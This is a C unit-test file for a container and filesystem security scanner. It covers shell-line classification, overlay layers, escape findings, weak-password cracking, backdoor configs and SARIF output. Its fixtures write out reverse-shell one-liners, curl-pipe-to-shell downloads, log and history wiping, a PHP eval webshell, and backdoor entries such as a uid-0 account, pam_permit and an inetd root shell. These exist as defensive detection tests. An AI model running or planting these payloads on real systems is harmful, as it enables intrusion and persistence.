/* test_scan.c: the scanner's pieces: shell line classes, masking and excerpts, the overlay merge
 * of the walker (whiteouts, opaque directories), escape findings from inspect, password
 * cracking with libxcrypt, and the SARIF document. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <cmocka.h>

#include <crypt.h>
#include <fcntl.h>
#include <ftw.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/xattr.h>

#include "scan/check.h"
#include "scan/scan.h"

/* ---- helpers ---- */

static char *tmpdir(void)
{
	char tmpl[] = "/tmp/cirt-test-scan.XXXXXX";
	char *d = mkdtemp(tmpl);
	assert_non_null(d);
	return xstrdup(d);
}

static int rm_cb(const char *p, const struct stat *st, int flag, struct FTW *ftw)
{
	(void)st;
	(void)flag;
	(void)ftw;
	return remove(p);
}

static void rmtree(char *d)
{
	nftw(d, rm_cb, 16, FTW_DEPTH | FTW_PHYS);
	free(d);
}

static void put(const char *root, const char *rel, const char *text)
{
	char path[1024];
	snprintf(path, sizeof(path), "%s%s", root, rel);
	/* make the parents */
	for (char *p = path + strlen(root) + 1; (p = strchr(p, '/')); p++) {
		*p = '\0';
		mkdir(path, 0755);
		*p = '/';
	}
	FILE *f = fopen(path, "w");
	assert_non_null(f);
	fputs(text, f);
	fclose(f);
}

static struct scan_engine *engine(unsigned checks)
{
	struct scan_opts o = {.checks = checks, .threads = 2, .crack_ms = 20000};
	struct scan_engine *e = NULL;
	struct cirt_err err = {0};
	if (scan_engine_new(&o, &e, &err) < 0)
		fail_msg("engine: %s", err.msg);
	return e;
}

/* Scan the directory TOP as a container's root; *ret_t is the target (the caller frees it). */
static struct scan_result run_rootfs(struct scan_engine *e, const char *top,
                                     struct scan_target **ret_t)
{
	struct cirt_err err = {0};
	assert_int_equal(scan_target_rootfs(top, ret_t, &err), 0);
	struct scan_result r = {0};
	assert_int_equal(scan_target_run(e, *ret_t, &r, &err), 0);
	return r;
}

/* "rule path origin" of every finding, one per line */
static char *summary(const struct scan_result *r)
{
	struct buf b = {0};
	for (size_t i = 0; i < r->n; i++)
		buf_printf(&b, "%s %s %s\n", r->f[i].rule, r->f[i].path ? r->f[i].path : "-",
		           scan_origin_name(r->f[i].origin) ? scan_origin_name(r->f[i].origin)
		                                            : "-");
	buf_cstr(&b);
	return b.data ? b.data : xstrdup("");
}

static bool has(const struct scan_result *r, const char *rule, const char *path)
{
	for (size_t i = 0; i < r->n; i++)
		if (streq(r->f[i].rule, rule) &&
		    (!path || (r->f[i].path && streq(r->f[i].path, path))))
			return true;
	return false;
}

/* ---- shell lines ---- */

static void test_shellpat(void **state)
{
	static const struct {
		const char *line;
		const char *slug; /* NULL: no match */
	} cases[] = {
	    {"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "reverse_shell"},
	    {"nc 1.2.3.4 4444 -e /bin/sh", "reverse_shell"},
	    {"/usr/bin/ncat evil.example 443 --sh-exec sh", "reverse_shell"},
	    {"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f",
	     "reverse_shell"},
	    {"python3 -c 'import "
	     "socket,os,pty;s=socket.socket();s.connect((\"h\",1));os.dup2(s.fileno(),0);pty.spawn("
	     "\"/bin/sh\")'",
	     "reverse_shell"},
	    {"php -r '$s=fsockopen(\"h\",1);exec(\"/bin/sh -i <&3 >&3\");'", "reverse_shell"},
	    {"socat tcp:h:1 exec:/bin/sh,pty", "reverse_shell"},
	    {"curl -fsSL http://x.example/i.sh | bash", "download_exec"},
	    {"wget -q -O- http://x.example/i.sh | sudo /bin/sh", "download_exec"},
	    {"sh -c \"$(curl -fsSL https://x.example/i.sh)\"", "download_exec"},
	    {"wget http://x.example/m -O /tmp/m && chmod +x /tmp/m", "download_exec"},
	    {"echo aGVsbG8= | base64 -d | sh", "base64_exec"},
	    {"export LD_PRELOAD=/tmp/x.so", "ld_preload"},
	    {"PROMPT_COMMAND='unset HISTFILE'", "history_wipe"}, /* the stronger class wins */
	    {"export PROMPT_COMMAND=\"echo hi\"", "prompt_command"},
	    {"history -c", "history_wipe"},
	    {"unset HISTFILE", "history_wipe"},
	    {"rm -rf /var/log/*", "log_wipe"},
	    {"echo > /var/log/wtmp", "log_wipe"},
	    {"./xmrig -o stratum+tcp://pool:3333", "miner"},
	    {"wget http://203.0.113.9/x", "raw_ip_download"},
	    /* ordinary lines */
	    {"ls -la /tmp", NULL},
	    {"curl https://example.com/api/status", NULL},
	    {"# bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", NULL},
	    {"true || false", NULL},
	    {"cat /var/log/syslog | grep error", NULL},
	    {"ncdu /var", NULL},
	    {"", NULL},
	};
	for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
		struct shellpat_hit h;
		bool m = shellpat_classify(cases[i].line, strlen(cases[i].line), SP_ALL, &h);
		if (!cases[i].slug) {
			if (m)
				fail_msg("'%s' matched %s", cases[i].line, h.slug);
			continue;
		}
		if (!m)
			fail_msg("'%s' did not match (want %s)", cases[i].line, cases[i].slug);
		if (!streq(h.slug, cases[i].slug))
			fail_msg("'%s': %s, want %s", cases[i].line, h.slug, cases[i].slug);
	}
	/* the mask limits the classes: start-up files are not judged for history wiping */
	struct shellpat_hit h;
	assert_false(shellpat_classify("history -c", 10, SP_STARTUP, &h));
}

static void test_text_helpers(void **state)
{
	char *m = scan_mask("AKIAABCDEFGHIJKLMNOP", 20);
	assert_string_equal(m, "AKIA**************OP");
	free(m);
	m = scan_mask("short", 5);
	assert_string_equal(m, "*****");
	free(m);
	const char *d = "one\n  two three  \nfour";
	unsigned line = 0;
	char *l = scan_line_at((const unsigned char *)d, strlen(d), 8, 100, &line);
	assert_int_equal(line, 2);
	assert_string_equal(l, "two three");
	free(l);
	l = scan_line_at((const unsigned char *)d, strlen(d), strlen(d), 100, &line);
	assert_int_equal(line, 3);
	assert_string_equal(l, "four");
	free(l);
	assert_true(scan_is_binary((const unsigned char *)"a\0b", 3));
	assert_false(scan_is_binary((const unsigned char *)"abc", 3));
	int s = scan_sev_parse("HIGH");
	assert_int_equal(s, SEV_HIGH);
	assert_int_equal(scan_sev_parse("urgent"), -1);
	const char *bad = NULL;
	assert_int_equal(scan_checks_parse("backdoor,escape", &bad), CHK_BACKDOOR | CHK_ESCAPE);
	assert_int_equal(scan_checks_parse("backdoor,nope", &bad), 0);
	assert_string_equal(bad, "nope");
}

/* ---- the overlay merge ---- */

static void test_overlay_layers(void **state)
{
	char *top = tmpdir();
	char upper[1100], lower[1100];
	snprintf(upper, sizeof(upper), "%s/upper", top);
	snprintf(lower, sizeof(lower), "%s/lower", top);
	mkdir(upper, 0755);
	mkdir(lower, 0755);
	const char *shell = "<?php eval($_POST['x']); ?>\n";
	put(lower, "/www/a.php", shell);      /* deleted in upper (whiteout) */
	put(lower, "/www/dir/b.php", shell);  /* under an opaque dir in upper */
	put(lower, "/www/c.php", shell);      /* untouched: in the image */
	put(lower, "/www/gone/e.php", shell); /* its directory replaced by a file */
	put(lower, "/etc/passwd", "root:x:0:0::/root:/bin/sh\ntoor:x:0:0::/root:/bin/sh\n");
	put(upper, "/www/d.php", shell); /* added since the image */
	put(upper, "/www/dir/new.txt", "hello\n");
	put(upper, "/www/gone", "now a file\n");
	put(upper, "/etc/passwd", "root:x:0:0::/root:/bin/sh\n");
	char p[1200];
	snprintf(p, sizeof(p), "%s/www/a.php", upper);
	assert_int_equal(mknod(p, S_IFCHR | 0600, makedev(0, 0)), 0);
	snprintf(p, sizeof(p), "%s/www/dir", upper);
	bool opaque = setxattr(p, "trusted.overlay.opaque", "y", 1, 0) == 0;

	struct scan_engine *e = engine(CHK_WEBSHELL | CHK_BACKDOOR);
	struct scan_target *t = xcalloc(1, sizeof(*t));
	t->kind = SCAN_IMAGE;
	t->name = xstrdup("layers");
	t->layers = xcalloc(2, sizeof(char *));
	t->layers[0] = xstrdup(upper);
	t->layers[1] = xstrdup(lower);
	t->n_layers = 2;
	t->top_is_upper = true;
	struct scan_result r = {0};
	struct cirt_err err = {0};
	assert_int_equal(scan_target_run(e, t, &r, &err), 0);
	char *s = summary(&r);
	assert_true(has(&r, "webshell.php_eval_request", "/www/c.php"));
	assert_true(has(&r, "webshell.php_eval_request", "/www/d.php"));
	assert_false(has(&r, "webshell.php_eval_request", "/www/a.php"));
	assert_false(has(&r, "webshell.php_eval_request", "/www/gone/e.php"));
	if (opaque)
		assert_false(has(&r, "webshell.php_eval_request", "/www/dir/b.php"));
	else
		print_message("trusted xattrs unavailable: opaque directory not tested\n");
	assert_false(has(&r, "backdoor.uid0_account", NULL));
	/* origins: d.php was added, c.php came with the image */
	for (size_t i = 0; i < r.n; i++) {
		if (streq(r.f[i].path, "/www/d.php"))
			assert_int_equal(r.f[i].origin, ORIGIN_ADDED);
		if (streq(r.f[i].path, "/www/c.php"))
			assert_int_equal(r.f[i].origin, ORIGIN_IMAGE);
	}
	/* the same two trees read as one root show everything, whiteout included */
	scan_result_clear(&r);
	free(s);
	scan_target_free(t);
	t = NULL;
	assert_int_equal(scan_target_rootfs(lower, &t, &err), 0);
	assert_int_equal(scan_target_run(e, t, &r, &err), 0);
	assert_true(has(&r, "webshell.php_eval_request", "/www/a.php"));
	assert_true(has(&r, "webshell.php_eval_request", "/www/dir/b.php"));
	assert_true(has(&r, "backdoor.uid0_account", "/etc/passwd"));
	scan_result_clear(&r);
	scan_target_free(t);
	scan_engine_free(e);
	rmtree(top);
}

/* ---- escape from inspect alone ---- */

static struct scan_result run_inspect(struct scan_engine *e, const char *json)
{
	json_error_t je;
	json_t *j = json_loads(json, 0, &je);
	if (!j)
		fail_msg("json: %s", je.text);
	struct scan_target *t = xcalloc(1, sizeof(*t));
	t->kind = SCAN_CONTAINER;
	t->name = xstrdup("c");
	t->inspect = j;
	struct scan_result r = {0};
	struct cirt_err err = {0};
	assert_int_equal(scan_target_run(e, t, &r, &err), 0);
	scan_target_free(t);
	return r;
}

static void test_escape(void **state)
{
	struct scan_engine *e = engine(CHK_ESCAPE | CHK_SECRETS);
	struct scan_result r = run_inspect(
	    e,
	    "{\"HostConfig\": {\"Privileged\": true, \"PidMode\": \"host\", \"CapAdd\": "
	    "[\"SYS_ADMIN\"],"
	    " \"SecurityOpt\": [\"seccomp=unconfined\"], \"Devices\": [{\"PathOnHost\": "
	    "\"/dev/sda\"}]},"
	    " \"Mounts\": [{\"Type\": \"bind\", \"Source\": \"/run/containerd/containerd.sock\","
	    " \"Destination\": \"/run/containerd/containerd.sock\", \"RW\": true},"
	    " {\"Type\": \"bind\", \"Source\": \"/\", \"Destination\": \"/host\", \"RW\": false},"
	    " {\"Type\": \"bind\", \"Source\": \"/etc/localtime\", \"Destination\": "
	    "\"/etc/localtime\", \"RW\": false},"
	    " {\"Type\": \"volume\", \"Source\": \"/var/lib/docker/volumes/x/_data\", "
	    "\"Destination\": \"/data\", \"RW\": true}],"
	    " \"Config\": {\"Env\": [\"PATH=/bin\", \"DB_PASSWORD=hunter2hunter2\", "
	    "\"API_TOKEN_FILE=/run/secrets/t\"]}}");
	char *s = summary(&r);
	assert_true(has(&r, "escape.privileged", NULL));
	assert_true(has(&r, "escape.runtime_socket", NULL));
	assert_true(has(&r, "escape.host_mount", NULL));
	assert_true(has(&r, "escape.host_pid", NULL));
	assert_true(has(&r, "escape.host_device", NULL));
	assert_true(has(&r, "secrets.env", NULL));
	/* privileged says it all: no per-capability or seccomp noise */
	assert_false(has(&r, "escape.cap_sys_admin", NULL));
	assert_false(has(&r, "escape.no_seccomp", NULL));
	size_t mounts = 0, envs = 0;
	for (size_t i = 0; i < r.n; i++) {
		mounts += streq(r.f[i].rule, "escape.host_mount");
		envs += streq(r.f[i].rule, "secrets.env");
		if (streq(r.f[i].rule, "escape.host_mount"))
			assert_int_equal(r.f[i].sev, SEV_CRITICAL); /* the host's root */
		if (streq(r.f[i].rule, "secrets.env")) {
			assert_true(startswith(r.f[i].evidence, "DB_PASSWORD=hu*"));
			assert_null(strstr(r.f[i].evidence, "hunter2"));
		}
	}
	assert_int_equal(mounts, 1); /* not /etc/localtime, not the volume */
	assert_int_equal(envs, 1);   /* a *_FILE reference is not a secret */
	scan_result_clear(&r);
	free(s);

	r = run_inspect(
	    e, "{\"HostConfig\": {\"CapAdd\": [\"CAP_SYS_MODULE\", \"bpf\", \"NET_RAW\"]}}");
	assert_true(has(&r, "escape.cap_sys_module", NULL));
	assert_true(has(&r, "escape.cap_bpf", NULL));
	assert_int_equal(r.n, 2);
	scan_result_clear(&r);
	r = run_inspect(e, "{\"HostConfig\": {\"CapAdd\": [\"ALL\"]}}");
	assert_true(has(&r, "escape.cap_all", NULL));
	scan_result_clear(&r);
	/* a default container: nothing */
	r = run_inspect(
	    e, "{\"HostConfig\": {\"NetworkMode\": \"bridge\", \"CapAdd\": null}, \"Mounts\": []}");
	assert_int_equal(r.n, 0);
	scan_result_clear(&r);
	scan_engine_free(e);
}

/* ---- weak passwords ---- */

static char *hash(const char *prefix, const char *pw)
{
	char salt[CRYPT_GENSALT_OUTPUT_SIZE];
	assert_non_null(crypt_gensalt_rn(prefix, 0, NULL, 0, salt, sizeof(salt)));
	struct crypt_data cd = {0};
	const char *h = crypt_rn(pw, salt, &cd, sizeof(cd));
	assert_non_null(h);
	return xstrdup(h);
}

static void test_weakpass(void **state)
{
	char *top = tmpdir();
	char *y = hash("$y$", "password"), *b = hash("$2b$", "letmein"),
	     *s5 = hash("$5$", "Xq9-not-common-7Lp");
	char *m = hash("$1$", "web123");
	char shadow[2048];
	snprintf(shadow, sizeof(shadow),
	         "root:%s:19700:0:99999:7:::\nalice:%s:19700::::::\nbob:%s:19700::::::\nweb:%s:"
	         "19700::::::\n"
	         "guest::19700::::::\nlocked:!%s:19700::::::\n",
	         y, b, s5, m, y);
	put(top, "/etc/shadow", shadow);
	put(top, "/etc/redis.conf", "bind 0.0.0.0\nprotected-mode no\n");
	struct scan_engine *e = engine(CHK_WEAKPASS);
	struct scan_target *t = NULL;
	struct scan_result r = run_rootfs(e, top, &t);
	char *s = summary(&r);
	size_t weak = 0;
	for (size_t i = 0; i < r.n; i++) {
		if (!streq(r.f[i].rule, "weakpass.weak_password"))
			continue;
		weak++;
		/* the password is never shown */
		assert_null(strstr(r.f[i].evidence, "letmein"));
		assert_null(strstr(r.f[i].evidence, "web123"));
	}
	assert_int_equal(weak, 3); /* root (yescrypt), alice (bcrypt), web (user name + 123) */
	assert_true(has(&r, "weakpass.empty_password", "/etc/shadow"));
	assert_true(has(&r, "weakpass.redis_no_password", "/etc/redis.conf"));
	for (size_t i = 0; i < r.n; i++)
		assert_null(strstr(r.f[i].evidence ? r.f[i].evidence : "", "bob"));
	scan_result_clear(&r);
	scan_target_free(t);
	scan_engine_free(e);
	free(s);
	free(y);
	free(b);
	free(s5);
	free(m);
	rmtree(top);
}

/* ---- line-based checks: comments, blank and indented lines, line numbers ---- */

/* The line of the one finding RULE at PATH; 0 when there is none, -1 when there are several. */
static int line_of(const struct scan_result *r, const char *rule, const char *path)
{
	int line = 0;
	for (size_t i = 0; i < r->n; i++)
		if (streq(r->f[i].rule, rule) && r->f[i].path && streq(r->f[i].path, path))
			line = line ? -1 : (int)r->f[i].line;
	return line;
}

static void test_backdoor_lines(void **state)
{
	char *top = tmpdir();
	put(top, "/etc/ld.so.preload", "# preload\n\n   \n\t/tmp/.x/libhide.so\n");
	put(top, "/root/.ssh/authorized_keys",
	    "# keys\n\n  command=\"/bin/sh\" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB0 evil@c2\n");
	put(top, "/etc/pam.d/sshd",
	    "# auth sufficient pam_permit.so\n\n  auth sufficient pam_permit.so\n");
	put(top, "/etc/inetd.conf",
	    "#9999 stream tcp nowait root /bin/sh sh -i\n\n9999 stream tcp nowait root /bin/sh sh "
	    "-i\n");
	put(top, "/etc/redis.conf",
	    "# requirepass foobared\n\nbind 0.0.0.0\n  requirepass password\n");
	put(top, "/etc/crontab", "# only comments\n\n#* * * * * root /tmp/x\n");
	struct scan_engine *e = engine(CHK_BACKDOOR | CHK_WEAKPASS);
	struct scan_target *t = NULL;
	struct scan_result r = run_rootfs(e, top, &t);
	char *s = summary(&r);
	print_message("%s", s);
	assert_int_equal(line_of(&r, "backdoor.ld_so_preload", "/etc/ld.so.preload"), 4);
	assert_int_equal(line_of(&r, "backdoor.ssh.forced_command", "/root/.ssh/authorized_keys"),
	                 3);
	assert_int_equal(line_of(&r, "backdoor.ssh.authorized_key", "/root/.ssh/authorized_keys"),
	                 3);
	assert_int_equal(line_of(&r, "backdoor.pam.permit", "/etc/pam.d/sshd"), 3);
	assert_int_equal(line_of(&r, "backdoor.inetd.shell", "/etc/inetd.conf"), 3);
	assert_int_equal(line_of(&r, "weakpass.redis", "/etc/redis.conf"), 4);
	assert_false(has(&r, "weakpass.redis_no_password", NULL));
	for (size_t i = 0; i < r.n; i++)
		assert_false(streq(r.f[i].path, "/etc/crontab"));
	/* the evidence is the line without its indentation */
	for (size_t i = 0; i < r.n; i++)
		if (streq(r.f[i].rule, "backdoor.ld_so_preload"))
			assert_string_equal(r.f[i].evidence, "/tmp/.x/libhide.so");
	scan_result_clear(&r);
	scan_target_free(t);
	scan_engine_free(e);
	free(s);
	rmtree(top);
}

/* ---- SARIF ---- */

static void test_sarif(void **state)
{
	char *top = tmpdir();
	put(top, "/www/a b.php", "<?php\n@eval($_POST['x']);\n");
	put(top, "/root/.ash_history", "history -c\n");
	struct scan_engine *e = engine(0);
	struct scan_target *t = NULL;
	struct cirt_err err = {0};
	assert_int_equal(scan_target_rootfs(top, &t, &err), 0);
	struct scan_result r = {0};
	assert_int_equal(scan_target_run(e, t, &r, &err), 0);
	assert_int_equal(r.n, 2);
	json_t *doc = scan_sarif(&t, &r, 1);
	assert_string_equal(json_string_value(json_object_get(doc, "version")), "2.1.0");
	json_t *run = json_array_get(json_object_get(doc, "runs"), 0);
	json_t *results = json_object_get(run, "results");
	json_t *rules =
	    json_object_get(json_object_get(json_object_get(run, "tool"), "driver"), "rules");
	assert_int_equal(json_array_size(results), 2);
	assert_int_equal(json_array_size(rules), 2);
	size_t i;
	json_t *res;
	bool seen = false;
	json_array_foreach(results, i, res)
	{
		json_t *rule = json_array_get(
		    rules, (size_t)json_integer_value(json_object_get(res, "ruleIndex")));
		assert_string_equal(json_string_value(json_object_get(rule, "id")),
		                    json_string_value(json_object_get(res, "ruleId")));
		json_t *pl = json_object_get(json_array_get(json_object_get(res, "locations"), 0),
		                             "physicalLocation");
		const char *uri = json_string_value(
		    json_object_get(json_object_get(pl, "artifactLocation"), "uri"));
		if (streq(json_string_value(json_object_get(res, "ruleId")),
		          "webshell.php_eval_request")) {
			assert_string_equal(uri, "/www/a%20b.php");
			assert_int_equal(json_integer_value(json_object_get(
			                     json_object_get(pl, "region"), "startLine")),
			                 2);
			assert_string_equal(json_string_value(json_object_get(res, "level")),
			                    "error");
			seen = true;
		} else {
			assert_string_equal(json_string_value(json_object_get(res, "level")),
			                    "warning");
		}
	}
	assert_true(seen);
	json_decref(doc);
	scan_result_clear(&r);
	scan_target_free(t);
	scan_engine_free(e);
	rmtree(top);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_shellpat),       cmocka_unit_test(test_text_helpers),
	    cmocka_unit_test(test_overlay_layers), cmocka_unit_test(test_escape),
	    cmocka_unit_test(test_weakpass),       cmocka_unit_test(test_sarif),
	    cmocka_unit_test(test_backdoor_lines),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
